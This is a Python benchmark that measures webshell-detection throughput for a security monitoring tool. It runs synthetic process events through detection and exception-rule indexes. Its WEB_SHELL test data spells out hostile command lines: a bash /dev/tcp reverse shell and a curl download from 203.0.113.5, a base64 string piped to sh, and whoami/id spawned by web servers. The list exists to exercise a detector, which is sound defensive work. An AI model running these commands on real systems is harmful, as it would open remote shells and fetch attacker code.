"""Webshell detection throughput: N process events through the built-in detection rules
and an account's exception rules, against a naive scan of every rule per event.

All data here is generated (a fixed seed): a stream where most processes are ordinary
(shells from sshd, cron jobs, services) and a fraction is web-server activity — benign
helpers (PDF converters, image tools) and webshell chains. 10,000 exception rules mix
EQUAL / START / END conditions over the six fields and server / group / every-server
targets.

Prints events/s for detection with the exception index, the naive per-event scan (timed
on a sample, as a full naive run would take hours), their ratio, and the indexed cost
at 100, 1,000 and 10,000 rules to show it does not grow with the rule count.

    .venv/bin/python bench/detection.py [--events 1000000] [--rules 10000]
"""

from __future__ import annotations

import argparse
import random
import resource
import time

from secmon.detect.catalog import evaluate
from secmon.detect.exception_index import ExceptionIndex, naive_first_match
from secmon.domain.process import Ancestor, ProcessEvent
from secmon.domain.wbd import (
    MATCH_FIELDS,
    Condition,
    ExceptionRule,
    FieldCondition,
    RuleConditions,
    RuleTarget,
    ServerScope,
    TargetType,
)

SERVERS = [str(25_000_000 + i) for i in range(200)]
GROUPS = [f"2024010100000000{i:06d}" for i in range(20)]
SCOPES = {s: ServerScope(s, frozenset({GROUPS[i % len(GROUPS)]})) for i, s in enumerate(SERVERS)}

ORDINARY = [
    ("ls", "-la /var/log", "bash", "sshd"),
    ("cat", "/var/log/syslog", "bash", "sshd"),
    ("python3", "/opt/etl/run.py --daily", "cron", "systemd"),
    ("java", "-jar /opt/batch/job.jar", "systemd", None),
    ("logrotate", "/etc/logrotate.conf", "cron", "systemd"),
    ("sh", "-c /usr/local/bin/backup.sh", "cron", "systemd"),
    ("grep", "-r TODO src", "bash", "sshd"),
    ("git", "pull", "bash", "sshd"),
    ("nginx", "-g daemon off;", "systemd", None),
    ("sleep", "30", "bash", "containerd-shim"),
]
WEB_BENIGN = [
    ("sh", "-c 'wkhtmltopdf /tmp/in.html /tmp/out.pdf'", "php-fpm", "pool www"),
    ("convert", "a.png -resize 50% b.png", "php-fpm", "pool www"),
    ("sh", "-c 'clamscan --no-summary /tmp/upload'", "php-fpm", "pool www"),
    ("ffmpeg", "-i a.mp4 b.webm", "node", "server.js"),
]
WEB_SHELL = [
    ("sh", "-c id", "php-fpm", "pool www"),
    ("bash", "-c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'", "apache2", "-k start"),
    ("curl", "-o /tmp/x http://203.0.113.5/x", "sh", "-c curl"),
    ("sh", "-c 'echo aWQ= | base64 -d | sh'", "nginx", "worker process"),
    ("whoami", None, "sh", "-c whoami"),
]


def events(n: int, rng: random.Random) -> list[ProcessEvent]:
    out = []
    for i in range(n):
        roll = rng.random()
        pool = ORDINARY if roll < 0.85 else WEB_BENIGN if roll < 0.95 else WEB_SHELL
        name, arg, parent, grand = rng.choice(pool)
        ancestors = (Ancestor(grand),) if grand else ()
        if parent == "sh":
            ancestors = (Ancestor("php-fpm", "pool www"),)
        out.append(
            ProcessEvent(
                time=1_720_000_000_000 + i * 10,
                instance_no=rng.choice(SERVERS),
                process_name=name,
                process_arg=arg,
                executor=rng.choice(["www-data", "root", "deploy", "nginx"]),
                process_name_of_parent=parent,
                ancestors=ancestors,
            )
        )
    return out


VALUES = {
    "process_name": ["sh", "bash", "/bin/sh", "curl", "convert", "python3", "java", "whoami", "id"],
    "process_arg": ["-c id", "-c 'wkhtmltopdf", "-la /var/log", "-c whoami", "/opt/etl/run.py", "-jar"],
    "executor": ["www-data", "root", "deploy", "nginx", "apache"],
    "process_name_of_parent": ["php-fpm", "apache2", "nginx", "node", "cron", "bash", "sh"],
    "process_arg_of_parent": ["pool www", "-k start", "worker process", "server.js", "-c curl"],
    "executor_of_parent": ["www-data", "root"],
}


def rules(n: int, rng: random.Random) -> list[ExceptionRule]:
    out = []
    for i in range(n):
        used = rng.sample(MATCH_FIELDS, rng.choice([1, 2, 2, 3]))
        conditions = {}
        for field in used:
            # Most rules except one specific behaviour; a few are broad.
            value = rng.choice(VALUES[field]) + ("" if rng.random() < 0.005 else f"-{rng.randrange(10_000)}")
            kind = rng.choice([Condition.EQUAL, Condition.EQUAL, Condition.START, Condition.END])
            keep = max(3, len(value) - 2)
            if kind is Condition.START:
                value = value[:keep]
            elif kind is Condition.END:
                value = value[-keep:]
            conditions[field] = FieldCondition(value, kind)
        roll = rng.random()
        if roll < 0.6:
            target = RuleTarget(TargetType.SERVER, rng.choice(SERVERS))
        elif roll < 0.9:
            target = RuleTarget(TargetType.SERVER_GROUP, rng.choice(GROUPS))
        else:
            target = RuleTarget(TargetType.EVERY_SERVER)
        out.append(
            ExceptionRule(
                rule_id=f"2024010100000{i:09d}",
                member_no=1,
                name=f"rule {i}",
                target=target,
                target_name=None,
                conditions=RuleConditions(**conditions),
                memo=None,
                disabled=rng.random() < 0.05,
                created_at=i,
                updated_at=i,
            )
        )
    return out


def detect_indexed(stream: list[ProcessEvent], index: ExceptionIndex) -> tuple[int, int]:
    detected = excepted = 0
    for event in stream:
        if evaluate(event):
            if index.first_match(SCOPES[event.instance_no], event.facts) is None:
                detected += 1
            else:
                excepted += 1
    return detected, excepted


def detect_naive(stream: list[ProcessEvent], all_rules: list[ExceptionRule]) -> tuple[int, int]:
    detected = excepted = 0
    for event in stream:
        if evaluate(event):
            if naive_first_match(all_rules, SCOPES[event.instance_no], event.facts) is None:
                detected += 1
            else:
                excepted += 1
    return detected, excepted


def main() -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--rules", type=int, default=10_000)
    parser.add_argument("--naive-sample", type=int, default=2_000)
    args = parser.parse_args()
    rng = random.Random(20261124)
    print(f"generating {args.events:,} process events and {args.rules:,} exception rules (generated data)")
    stream = events(args.events, rng)
    all_rules = rules(args.rules, rng)

    started = time.perf_counter()
    index = ExceptionIndex(all_rules)
    built = time.perf_counter() - started
    started = time.perf_counter()
    detected, excepted = detect_indexed(stream, index)
    elapsed = time.perf_counter() - started
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
    rate = args.events / elapsed

    sample = stream[: args.naive_sample]
    started = time.perf_counter()
    naive = detect_naive(sample, all_rules)
    naive_rate = len(sample) / (time.perf_counter() - started)
    assert naive == detect_indexed(sample, index), "the index and the naive scan disagree"

    print(f"index built in {built * 1000:.0f} ms over {index.size:,} active rules")
    print(
        f"indexed : {rate:>12,.0f} events/s  ({detected:,} detections, {excepted:,} excepted, "
        f"{elapsed:.1f} s, peak RSS {peak / 2**20:.0f} MiB)"
    )
    print(f"naive   : {naive_rate:>12,.0f} events/s  (sample of {len(sample):,} events)")
    print(f"ratio   : indexed is {rate / naive_rate:,.1f}x the naive scan")
    print(f"aim     : >= 50,000 events/s: {'met' if rate >= 50_000 else 'MISSED'}")

    print("indexed cost by rule count (same 100,000-event slice):")
    slice_ = stream[:100_000]
    for count in (100, 1_000, 10_000):
        subset = ExceptionIndex(all_rules[:count])
        started = time.perf_counter()
        detect_indexed(slice_, subset)
        print(f"  {count:>6,} rules: {len(slice_) / (time.perf_counter() - started):>10,.0f} events/s")


if __name__ == "__main__":
    main()
